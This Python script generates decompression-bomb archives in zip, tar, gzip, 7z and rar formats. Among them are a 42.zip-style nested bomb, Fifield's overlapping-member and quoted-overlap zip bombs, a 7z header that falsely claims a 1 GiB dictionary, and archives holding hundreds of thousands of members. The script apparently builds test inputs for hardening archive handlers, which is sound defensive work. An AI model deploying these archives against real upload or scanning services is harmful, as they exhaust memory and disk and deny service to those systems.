"""make-bomb-archive.py - archives that are small and become large, many or deep."""
import gzip
import io
import os
import random
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib

from bomb import MIB, deflated, kind, main, package


def zip_records(name, method, crc, packed, length, at):
    fields = (20, 0, method, 0, 0x5C21, crc, packed, length, len(name), 0)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", *fields) + name
    return local, struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, *fields, 0, 0, 0, 0, at) + name


def zip_end(entries, directory, at):
    return struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, entries, entries, len(directory), at, 0)


@kind("zip")
def zip_ratio():
    """one member of a gibibyte of zeros"""
    body, length, crc = deflated(1 << 10)
    local, entry = zip_records(b"a.txt", 8, crc, len(body), length, 0)
    return local + body + entry + zip_end(1, entry, len(local) + len(body))


@kind("zip")
def zip_of_zips():
    """42.zip: five levels of sixteen, a gibibyte in each of the lowest"""
    level = zip_ratio()
    for _ in range(5):
        level = package({f"{i}.zip": [level] for i in range(16)})
    return level


@kind("zip")
def zip_deep():
    """a hundred archives, each in the next"""
    level = package({"a.txt": "通知"})
    for _ in range(100):
        level = package({"a.zip": [level]})
    return level


@kind("zip")
def zip_many():
    """a hundred thousand members of one byte"""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for i in range(100000):
            made.writestr(f"{i}.txt", "x")
    return out.getvalue()


@kind("zip")
def zip_overlap():
    """Fifield: two thousand names for one body of 64 MiB"""
    body, length, crc = deflated(64)
    local, _ = zip_records(b"0000.txt", 8, crc, len(body), length, 0)
    directory = b"".join(zip_records(b"%04d.txt" % i, 8, crc, len(body), length, 0)[1] for i in range(2000))
    return local + body + directory + zip_end(2000, directory, len(local) + len(body))


@kind("zip")
def zip_quoted():
    """Fifield: each of five hundred members quotes the head of the next and all that follows"""
    content, packed, directory = MIB, deflated(1)[0], b""
    for i in reversed(range(500)):
        local, entry = zip_records(b"%04d.txt" % i, 8, zlib.crc32(content), len(packed), len(content), 43 * i)
        directory = entry + directory
        if i == 0:
            break
        content = local + content
        packed = b"\0" + struct.pack("<HH", len(local), len(local) ^ 0xFFFF) + local + packed
    return local + packed + directory + zip_end(500, directory, len(local) + len(packed))


def tar_of(names, size=0):
    for name in names:
        info = tarfile.TarInfo(name)
        info.size = size
        yield info.tobuf(tarfile.USTAR_FORMAT) + (b"x" * size).ljust(-(-size // 512) * 512, b"\0")
    yield bytes(10240)


@kind("tar")
def tar_many():
    """ninety thousand empty members"""
    return tar_of(f"{i}.txt" for i in range(90000))


@kind("tgz")
def tgz_many():
    """a million empty members, compressed"""
    return gzip.compress(next(tar_of(["a.txt"])) * 1000000 + bytes(10240), 6, mtime=0)


@kind("tar")
def tar_names():
    """a tar of extended heads alone: twenty thousand names of a kilobyte"""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as made:
        for i in range(20000):
            made.addfile(tarfile.TarInfo(f"{i}/" + "名" * 300 + ".txt"))
    return out.getvalue()


@kind("txt.gz")
def gzip_ratio():
    """a gibibyte of zeros"""
    return deflated(1 << 10, 31)[0]


@kind("txt.gz")
def gzip_of_gzip():
    """a gibibyte of zeros compressed three times over"""
    return gzip.compress(gzip.compress(gzip_ratio(), 9, mtime=0), 9, mtime=0)


@kind("txt.gz")
def gzip_members():
    """two hundred thousand empty members, one behind the other"""
    return gzip.compress(b"", 9, mtime=0) * 200000


def seven(*more, files):
    with tempfile.TemporaryDirectory() as at:
        for name, pieces in files:
            with open(os.path.join(at, name), "wb") as f:
                f.writelines(pieces)
        subprocess.run(["7zr", "a", "-bd", *more, "out.7z", "."], cwd=at, check=True, stdout=subprocess.DEVNULL)
        with open(os.path.join(at, "out.7z"), "rb") as f:
            return f.read()


@kind("7z")
def seven_ratio():
    """a gibibyte of zeros"""
    return seven("-mx=1", files=[("a.txt", (MIB for _ in range(1 << 10)))])


@kind("7z")
def seven_many():
    """twenty thousand members"""
    return seven("-mx=1", files=[(f"{i}.txt", [b"x"]) for i in range(20000)])


@kind("7z")
def seven_dictionary():
    """a dictionary of 1 GiB claimed for ten bytes"""
    made = bytearray(seven("-m0=lzma2:d=1m", "-mhc=off", files=[("a.txt", [b"0123456789"])]))
    at = made.index(b"\x21\x21\x01") + 3  # LZMA2, one byte of properties: the dictionary
    made[at] = 38
    size = struct.unpack_from("<Q", made, 20)[0]
    head = 32 + struct.unpack_from("<Q", made, 12)[0]
    struct.pack_into("<I", made, 28, zlib.crc32(made[head:head + size]))
    struct.pack_into("<I", made, 8, zlib.crc32(made[12:32]))
    return bytes(made)


def rar5_block(kind_of, body, data=b"", flags=0):
    def vint(n):
        out = bytearray()
        while n >= 128:
            out.append(n & 127 | 128)
            n >>= 7
        return bytes(out) + bytes([n])
    inner = vint(kind_of) + vint(flags | (2 if data else 0)) + (vint(len(data)) if data else b"") + body
    head = vint(len(inner)) + inner
    return struct.pack("<I", zlib.crc32(head)) + head + data


@kind("rar")
def rar_many():
    """fifty thousand members of a RAR 5, none of them a file"""
    made = [b"Rar!\x1a\x07\x01\x00", rar5_block(1, b"\0")]
    for i in range(50000):
        name = b"%05d.txt" % i
        body = b"\x04\x01\x20" + struct.pack("<I", zlib.crc32(b"x")) + b"\0\1" + bytes([len(name)]) + name
        made.append(rar5_block(2, body, b"x"))
    return made + [rar5_block(5, b"\0")]


@kind("zip")
def zip_names():
    """names of sixty thousand letters"""
    return package({"文" * 20000 + f"{i}.txt": "通知" for i in range(200)})


@kind("zip")
def zip_words():
    """two hundred megabytes of text, as much as is unpacked of one draft"""
    some = bytes(random.Random(4).choices(b"ab\n", k=1 << 20))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        for i in range(20):
            made.writestr(f"{i}.txt", some * 10)
    return out.getvalue()


main(__doc__)
